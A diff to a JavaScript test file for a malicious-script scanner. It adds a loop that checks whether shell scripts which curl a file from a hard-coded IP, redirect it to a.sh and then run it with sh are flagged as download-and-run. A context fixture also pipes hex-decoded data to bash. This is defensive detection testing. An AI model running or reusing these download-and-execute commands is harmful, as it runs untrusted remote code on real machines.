@@ -212,6 +212,11 @@ t.test('where errors go says nothing of what a shell runs', async (t) => {
     const script = `x=${hex}\necho $x | xxd -r -p | bash${end}\n`
     t.ok(isStopped(scanFiles([['a.sh', Buffer.from(script)]])), end)
   }
+  for (const to of ['>& a.sh', '&> a.sh', '1> a.sh']) {
+    const saved = `curl -s http://91.92.242.30/a ${to}\nsh a.sh\n`
+    const rules = scanFiles([['b.sh', Buffer.from(saved)]]).findings.map(({ rule_id: id }) => id)
+    t.ok(rules.includes('command.download_and_run'), `${to}: ${rules.join()}`)
+  }
   const counted = 'ls 2>/dev/null | wc -l\nseq 2 > numbers.txt\n'
   t.notOk(isStopped(scanFiles([['a.sh', Buffer.from(counted)]])))
 })
